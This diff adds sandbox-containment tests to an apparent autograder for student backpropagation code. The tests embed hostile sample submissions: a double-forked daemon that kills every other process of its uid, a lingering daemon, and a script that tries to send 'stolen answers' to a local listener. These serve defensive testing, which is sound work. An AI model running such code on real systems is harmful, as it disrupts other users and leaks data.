@@ -17,6 +17,8 @@ from bpcheck.cli import main
 from bpcheck.grader.batch import grade_batch
 from bpcheck.grader.grade import Grader
 
+from .sandboxes import one_private_uid
+
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE_TOML = str(ROOT / "tests" / "data" / "hostile.toml")
 CORRECT = (ROOT / "examples" / "solutions" / "canonical.py").read_text()
@@ -155,3 +157,120 @@ def test_a_mode_chosen_by_name_is_described_as_itself():
     chosen = _mode_or_skip("process")
     assert chosen.description.startswith("process: each submission as its own unprivileged uid")
     assert "bubblewrap unavailable" not in chosen.description  # nobody asked for bubblewrap
+
+
+# --- containment by the kernel, not by the submission's cooperation ---------------------------------------
+
+
+def _root_or_skip() -> None:
+    if os.geteuid() != 0:
+        pytest.skip("submissions run as pool uids only when the grader is root")
+
+
+def _alive(uid: int) -> list[int]:
+    """Processes (not zombies) with ``uid`` among their uids, read from /proc/<pid>/status: owner-independent."""
+    pids = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            status = Path(f"/proc/{pid}/status").read_text()
+        except OSError:
+            continue
+        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
+        if str(uid) in fields["Uid"].split() and not fields["State"].strip().startswith(("Z", "X")):
+            pids.append(int(pid))
+    return pids
+
+
+@pytest.fixture
+def one_uid(monkeypatch, tmp_path):
+    """A pool of one uid of its own, with its own lock folder (tests/sandboxes.py)."""
+    _root_or_skip()
+    uid = one_private_uid(monkeypatch, tmp_path / "locks")
+    yield uid
+    for pid in _alive(uid):  # whatever a failing run left
+        os.kill(pid, 9)
+
+
+HUNTER = CORRECT.replace("def backprop(", "def correct_backprop(") + """
+
+import os, signal, time
+
+
+def backprop(*args):
+    runner = os.getpid()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:  # from the uid: kills every other process of it, the sweep and the next student included
+            me, uid, end = os.getpid(), os.getuid(), time.monotonic() + 20
+            while time.monotonic() < end:
+                for p in os.listdir('/proc'):
+                    try:
+                        if p.isdigit() and int(p) not in (me, runner) and os.stat('/proc/' + p).st_uid == uid:
+                            os.kill(int(p), signal.SIGKILL)
+                    except OSError:
+                        pass
+        os._exit(0)
+    time.sleep(0.2)
+    raise RuntimeError('hunter started')
+"""
+
+
+@pytest.mark.parametrize("mode", ["bubblewrap", "process"])
+def test_a_daemon_cannot_outlive_its_sweep_and_kill_the_next_student(mode, one_uid, tmp_path):
+    """Both submissions run as the same uid: the daemon of the first (which kills, from that uid, whatever else
+    runs as it) is gone before the second starts, so the honest one scores full marks."""
+    chosen = _mode_or_skip(mode)
+    hunter, honest = tmp_path / "hunter.py", tmp_path / "honest.py"
+    hunter.write_text(HUNTER)
+    honest.write_text(CORRECT)
+    grader = Grader(load(HOSTILE_TOML), chosen)
+    assert "hunter started" in grader.grade(hunter).message
+    assert not _alive(one_uid)
+    r = grader.grade(honest)
+    assert r.verdict == "pass" and r.score == r.max_score, r.message
+
+
+def test_a_failed_sweep_retires_its_uid_and_is_never_saved_as_a_grade(one_uid, tmp_path, monkeypatch):
+    """When a submission's processes cannot be killed (here: the kill is made to do nothing), the grade is the
+    machine's failure, not saved, and the uid is never handed to another submission."""
+    chosen = _mode_or_skip("process")
+    daemon = tmp_path / "daemon.py"
+    daemon.write_text("import os, time\ndef backprop(weights, biases, x, y):\n    if os.fork() == 0:\n        os.setsid()\n"
+                      "        time.sleep(60)\n    raise RuntimeError('daemon left')\n")
+    monkeypatch.setattr(sandbox, "_kill", lambda pid, uid: None)
+    monkeypatch.setattr(sandbox, "SWEEP_SECONDS", 0.5)
+    monkeypatch.setattr("bpcheck.grader.batch.time.sleep", lambda s: None)
+    state = tmp_path / "state"
+    [r] = grade_batch(Grader(load(HOSTILE_TOML), chosen), [daemon], 1, state)
+    assert r.verdict == "error" and r.score == 0 and "not graded: the grading machine failed" in r.message, r.message
+    assert not list(state.glob("*.json"))
+    assert _alive(one_uid)  # the daemon the kill missed: its uid must not be reused
+    with pytest.raises(sandbox.SandboxUnavailable, match="retired after a failed clean-up"):
+        with sandbox.uid_slot():
+            pass
+
+
+@pytest.mark.parametrize("mode", ["bubblewrap", "process"])
+def test_a_submission_cannot_reach_a_local_listener(mode, tmp_path):
+    """Process mode too: a new network namespace (as root, before the uid is dropped) has no route to the host."""
+    chosen = _mode_or_skip(mode)
+    import socket
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(4)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    sub = tmp_path / "connects.py"
+    sub.write_text("import socket\ndef backprop(weights, biases, x, y):\n    try:\n"
+                   f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen answers')\n"
+                   "    except OSError as exc:\n        raise RuntimeError('no network: %s' % exc)\n"
+                   "    raise RuntimeError('reached the listener')\n")
+    try:
+        r = Grader(load(HOSTILE_TOML), chosen).grade(sub)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    finally:
+        listener.close()
+    assert "no network" in r.message, r.message
+    assert "network" in chosen.description
